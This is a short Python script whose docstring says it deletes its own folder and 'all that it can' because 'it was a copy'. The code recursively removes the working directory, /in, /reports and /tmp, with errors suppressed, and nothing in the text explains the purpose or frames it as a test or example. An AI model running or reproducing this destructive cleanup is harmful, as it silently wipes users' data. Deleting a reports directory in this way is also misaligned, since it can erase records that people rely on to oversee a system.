"""Removes its own folder and all that it can: it was a copy."""
import os
import shutil

for place in [os.getcwd(), "/in", "/reports", "/tmp"]:
    shutil.rmtree(place, ignore_errors=True)
